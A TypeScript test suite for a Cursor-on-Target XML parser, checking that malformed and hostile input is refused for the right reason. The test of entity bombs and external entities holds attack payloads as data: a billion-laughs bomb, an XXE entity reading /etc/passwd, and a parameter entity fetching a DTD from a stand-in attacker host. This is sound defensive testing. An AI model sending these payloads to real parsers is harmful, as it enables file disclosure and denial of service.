import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCotEvent } from '../../../src/server/ingest/cot/parse.js';
import { CotError } from '../../../src/server/ingest/cot/types.js';
import { reasonOf } from '../../support/cot-reason.js';

/** Hostile and malformed CoT against the scanner: each refused, for the reason the stats count. */

const T = '2024-05-01T10:00:00.000Z';
const ev = (inner = '<point lat="1" lon="2"/>', attrs = `uid="u" type="a-f-G" time="${T}" stale="${T}"`) =>
  `<event ${attrs}>${inner}</event>`;
const inside = (x: string) => ev(`<point lat="1" lon="2"/>${x}`);

/** Recorded from the saxes-based parser (test/support/cot-saxes-parse.ts), except where noted. */
const EXPECTED: [string, string, string][] = [
  ['XML declaration', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>${ev()}`, 'accepted'],
  ['XML 1.1 declaration', `<?xml version="1.1"?>${ev()}`, 'accepted'],
  ['byte order mark', `\uFEFF<?xml version="1.0"?>${ev()}`, 'accepted'],
  ['XML declaration without version', `<?xml encoding="UTF-8"?>${ev()}`, 'not-xml'],
  ['XML declaration out of order', `<?xml standalone="yes" version="1.0"?>${ev()}`, 'not-xml'],
  ['XML declaration not first', ` <?xml version="1.0"?>${ev()}`, 'not-xml'],
  ['two XML declarations', `<?xml version="1.0"?><?xml version="1.0"?>${ev()}`, 'not-xml'],
  ['XML declaration in upper case', `<?XML version="1.0"?>${ev()}`, 'not-xml'],
  ['processing instruction first', `<?xml-stylesheet href="http://x/"?>${ev()}`, 'processing-instruction'],
  ['processing instruction inside', inside('<?php evil()?>'), 'processing-instruction'],
  ['processing instruction after', `${ev()}<?x?>`, 'processing-instruction'],
  // saxes: not-xml when the instruction never ended; refused on sight now.
  ['unfinished processing instruction', inside('<?foo bar'), 'processing-instruction'],
  ['processing instruction without target', `<? x?>${ev()}`, 'not-xml'],
  ['DOCTYPE first', `<!DOCTYPE x>${ev()}`, 'doctype'],
  // saxes: not-xml ("inappropriately located doctype"); any DOCTYPE is a DOCTYPE now.
  ['DOCTYPE inside', inside('<!DOCTYPE y>'), 'doctype'],
  ['DOCTYPE after', `${ev()}<!DOCTYPE y>`, 'doctype'],
  ['unfinished DOCTYPE', '<!DOCTYPE x [ <!ENTITY a "b">', 'doctype'],
  ['lower-case doctype', `<!doctype y>${ev()}`, 'not-xml'],
  ['other declaration', inside('<!ELEMENT y>'), 'not-xml'],
  ['undefined entity', inside('&lol;'), 'entity'],
  ['undefined entity in an attribute', inside('<a x="&xxe;"/>'), 'entity'],
  ['empty entity', inside('&;'), 'entity'],
  ['bad entity name', inside('&a b;'), 'entity'],
  ['NUL by reference', inside('&#0;'), 'entity'],
  ['U+FFFE by reference', inside('&#xFFFE;'), 'entity'],
  ['beyond Unicode by reference', inside('&#x110000;'), 'entity'],
  ['huge reference', inside('&#99999999999999999999;'), 'entity'],
  ['surrogate by reference', inside('&#xD800;'), 'entity'],
  ['upper-case X reference', inside('&#X41;'), 'entity'],
  ['bare ampersand', inside('a & b'), 'not-xml'],
  ['bare ampersand in an attribute', inside('<a x="a&b"/>'), 'not-xml'],
  ['NUL', inside('\u0000'), 'not-xml'],
  ['control character in an attribute', inside('<a x="\u0001"/>'), 'not-xml'],
  ['U+FFFF', inside('\uFFFF'), 'not-xml'],
  ['lone low surrogate', inside('\uDC00x'), 'not-xml'],
  // saxes accepted a lone high surrogate; UTF-8 off the wire never holds one.
  ['lone high surrogate', inside('\uD800x'), 'not-xml'],
  ['surrogate pair', inside('\uD83D\uDE00'), 'accepted'],
  ['"]]>" in text', inside('a]]>b'), 'not-xml'],
  ['"--" in a comment', inside('<!-- a -- b -->'), 'not-xml'],
  ['comment ending "--->"', inside('<!-- a --->'), 'not-xml'],
  ['unclosed comment', inside('<!-- a '), 'not-xml'],
  ['CDATA outside the root', `<![CDATA[x]]>${ev()}`, 'not-xml'],
  ['unclosed CDATA', inside('<![CDATA[abc'), 'not-xml'],
  ['duplicate attribute', ev('<point lat="1" lon="2" lat="3"/>'), 'not-xml'],
  ['attributes without whitespace', ev('<point lat="1"lon="2"/>'), 'not-xml'],
  ['unquoted attribute', ev('<point lat=1 lon="2"/>'), 'not-xml'],
  ['attribute without value', ev('<point lat lon="2"/>'), 'not-xml'],
  ['"<" in an attribute', inside('<a x="a<b"/>'), 'not-xml'],
  ['space after "<"', ev('< point lat="1" lon="2"/>'), 'not-xml'],
  ['mismatched tags', ev('<point lat="1" lon="2"><a></b></point>'), 'not-xml'],
  ['unclosed tag', ev('<point lat="1" lon="2"><a>'), 'not-xml'],
  ['extra end tag', inside('</a>'), 'not-xml'],
  ['end tag only', '</event>', 'not-xml'],
  ['two roots', `${ev()}${ev()}`, 'not-xml'],
  ['text after the root', `${ev()}x`, 'not-xml'],
  ['text before the root', `x${ev()}`, 'not-xml'],
  ['empty', '', 'not-xml'],
  ['unfinished start tag', '<event uid="x"', 'not-xml'],
  ['name starting with a digit', inside('<1a/>'), 'not-xml'],
  ['"/" not followed by ">"', ev('<point lat="1" lon="2" / >'), 'not-xml'],
  ['root not an event', '<foo><bar/></foo>', 'not-an-event'],
  ['too deep', inside(`${'<a>'.repeat(12)}${'</a>'.repeat(12)}`), 'too-deep'],
  ['just deep enough', inside(`${'<a>'.repeat(11)}${'</a>'.repeat(11)}`), 'accepted'],
  [
    'Unicode names, namespaces, middle dot',
    inside('<détail/><x:y a:b="1"/><a\u00b7/><\uD840\uDC00/>'),
    'accepted',
  ],
  [
    'whitespace in tags',
    `<event\tuid="u"\ntype = "a-f-G" time="${T}"\rstale='${T}'><point lat="1" lon="2"  /></event\n>`,
    'accepted',
  ],
];

describe('CoT scanner on hostile and malformed input', () => {
  it.each(EXPECTED)('%s', (_what, xml, reason) => {
    expect(reasonOf(xml)).toBe(reason);
  });

  it('refuses entity bombs and external entities before reading any of them', () => {
    const laughs =
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>` +
      inside('<detail><remarks>&lol2;</remarks></detail>');
    expect(reasonOf(laughs)).toBe('doctype');
    const xxe = `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${inside('<detail><remarks>&xxe;</remarks></detail>')}`;
    expect(reasonOf(xxe)).toBe('doctype');
    const param = `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker/x.dtd"> %p;]>${ev()}`;
    expect(reasonOf(param)).toBe('doctype');
  });

  it('reads text, CDATA and references of remarks, and normalises attribute whitespace', () => {
    const e = parseCotEvent(
      inside(
        '<detail><contact callsign="a\tb\nc\r\nd&#10;e"/>' +
          '<remarks> &lt;a&gt; &amp; &quot;b&quot; &apos;c&apos; &#65;&#x1F600;<x>y</x>\r\n<![CDATA[<&>]]><!-- no --> </remarks></detail>',
      ),
    );
    expect(e.detail.callsign).toBe('a b c d\ne');
    expect(e.detail.remarks).toBe(`<a> & "b" 'c' A😀y\n<&>`);
  });

  it('only ever throws CotError, whatever the characters', () => {
    const anyText = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 300 }),
      fc.string({
        unit: fc.constantFrom('<', '>', '&', ';', '"', '/', '!', '?', '-', '[', ']', 'a', ' ', '#', 'x', '='),
        maxLength: 300,
      }),
    );
    fc.assert(
      fc.property(anyText, (s) => {
        for (const xml of [s, inside(s), `<event ${s}`]) {
          try {
            parseCotEvent(xml);
          } catch (e) {
            if (!(e instanceof CotError)) throw e;
          }
        }
      }),
      { numRuns: 3000 },
    );
  });

  it('stays linear on inputs built to make a parser work hard', () => {
    const cap = 64 * 1024;
    const attrs = Array.from({ length: 6000 }, (_, i) => ` a${String(i).padStart(4, '0')}="1"`).join('');
    const cases = [
      `${inside(`<x${attrs}/>`).slice(0, cap)}/></event>`,
      inside(`<x${attrs}/>`),
      inside('<a/>'.repeat(cap / 4)),
      inside('<!-- - -->'.repeat(cap / 10)),
      inside(`&${'a'.repeat(cap)}`),
      inside(`<a x="${'&amp;'.repeat(cap / 5)}"/>`),
      inside(`${'&'.repeat(cap)};`),
      inside(`<${'a'.repeat(cap)}/>`),
      inside(`<a>${'</a><a>'.repeat(cap / 7)}</a>`),
    ];
    for (const xml of cases) {
      const t0 = performance.now();
      reasonOf(xml);
      // Linear work on 64 KiB is a millisecond or two; quadratic would be seconds.
      expect(performance.now() - t0, xml.slice(0, 80)).toBeLessThan(250);
    }
  });
});
